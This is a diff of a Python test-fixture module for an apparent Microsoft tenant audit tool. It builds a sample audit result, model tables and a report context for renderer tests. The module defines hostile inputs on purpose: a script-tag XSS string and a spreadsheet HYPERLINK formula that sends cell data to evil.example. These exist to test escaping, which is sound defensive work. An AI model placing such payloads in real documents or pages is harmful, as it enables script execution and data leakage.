@@ -1,6 +1,7 @@
-"""A hand-built AuditResult with hostile tenant data, shared by the renderer tests.
+"""A hand-built AuditResult and model with hostile tenant data, shared by the renderer tests.
 
-``make_result`` exercises every part of a report: all severities, the four headline rules, a waived
+``make_context`` builds the report context every renderer reads from ``make_result`` and ``make_model``;
+together they exercise every part of a report: all severities, the four headline rules, a waived
 finding, an expired waiver, a failed data source with a not-assessed rule, history (new/resolved), a
 display name that tries to run script, and values a spreadsheet would treat as formulas.
 """
@@ -13,9 +14,14 @@ from typing import Any
 
 import pandas as pd
 
+from auditor.config import AuditorConfig
+from auditor.engine import evaluate
 from auditor.findings import AuditResult, Finding, RuleOutcome, RunInfo
+from auditor.model import TenantModel, build_model
+from auditor.render.context import ReportContext, build_report_context
 from auditor.rules import REGISTRY
 from auditor.rules.registry import headlines
+from auditor.snapshot import Snapshot
 
 XSS = "<script>window.__pwned = 1; alert(1)</script>"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -247,6 +253,48 @@ def make_result(extra_findings: int = 0) -> AuditResult:
                 first_seen=FIRST_SEEN,
             )
         )
+    return AuditResult(
+        tenant={
+            "name": "contoso",
+            "tenant_id": "tid-1",
+            "default_domain": "contoso.com",
+            "display_name": "Contoso <b>Ltd</b>",
+        },
+        run=RunInfo(
+            id="run-123",
+            started=RUN_START,
+            finished=RUN_START,
+            status="partial",
+            errors=["sign_ins: 403 Forbidden"],
+        ),
+        coverage=[
+            {"source": "users", "status": "collected", "items": 5, "reason": None},
+            {
+                "source": "sign_ins",
+                "status": "failed",
+                "items": 0,
+                "reason": "403 Forbidden (needs AuditLog.Read.All and Entra ID P1)",
+            },
+        ],
+        rules=_outcomes(findings),
+        findings=findings,
+        resolved=[{"rule_id": "imap-pop-enabled", "entity_id": "m9", "entity_name": "gone@contoso.com"}],
+        expired_waivers=[
+            {
+                "rule": "stale-admin",
+                "entity": "@old-admin@contoso.com",
+                "reason": "project",
+                "approved_by": "cio@contoso.com",
+                "expires": date(2026, 1, 31),
+            }
+        ],
+        previous_run_id="run-122",
+        headlines=headlines(),
+    )
+
+
+def make_model() -> SimpleNamespace:
+    """The model tables the entity sheets and the HTML IP table project (users, mailboxes, CA, IP ranges)."""
     users = pd.DataFrame(
         {
             "id": ["u1", "u2", "u3", "u4", "u5"],
@@ -341,7 +389,7 @@ def make_result(extra_findings: int = 0) -> AuditResult:
             "failed": [1],
         }
     )
-    model = SimpleNamespace(
+    return SimpleNamespace(
         users=users,
         mailboxes=mailboxes,
         ca_policies=ca,
@@ -349,42 +397,14 @@ def make_result(extra_findings: int = 0) -> AuditResult:
         legacy_sign_ins=legacy,
         role_holdings=pd.DataFrame(),
     )
-    return AuditResult(
-        tenant={
-            "name": "contoso",
-            "tenant_id": "tid-1",
-            "default_domain": "contoso.com",
-            "display_name": "Contoso <b>Ltd</b>",
-        },
-        run=RunInfo(
-            id="run-123",
-            started=RUN_START,
-            finished=RUN_START,
-            status="partial",
-            errors=["sign_ins: 403 Forbidden"],
-        ),
-        coverage=[
-            {"source": "users", "status": "collected", "items": 5, "reason": None},
-            {
-                "source": "sign_ins",
-                "status": "failed",
-                "items": 0,
-                "reason": "403 Forbidden (needs AuditLog.Read.All and Entra ID P1)",
-            },
-        ],
-        rules=_outcomes(findings),
-        findings=findings,
-        resolved=[{"rule_id": "imap-pop-enabled", "entity_id": "m9", "entity_name": "gone@contoso.com"}],
-        expired_waivers=[
-            {
-                "rule": "stale-admin",
-                "entity": "@old-admin@contoso.com",
-                "reason": "project",
-                "approved_by": "cio@contoso.com",
-                "expires": date(2026, 1, 31),
-            }
-        ],
-        previous_run_id="run-122",
-        headlines=headlines(),
-        model=model,  # type: ignore[arg-type]
-    )
+
+
+def evaluated(snapshot: Snapshot) -> tuple[AuditResult, TenantModel]:
+    """The real stages on a snapshot with the default configuration: the result and the model it came from."""
+    config = AuditorConfig()
+    model = build_model(snapshot, config.classification, config.legacy_mfa)
+    return evaluate(model, REGISTRY, config.rules, config.waivers, coverage=snapshot.coverage()), model
+
+
+def make_context(extra_findings: int = 0) -> ReportContext:
+    return build_report_context(make_result(extra_findings), make_model())  # type: ignore[arg-type]
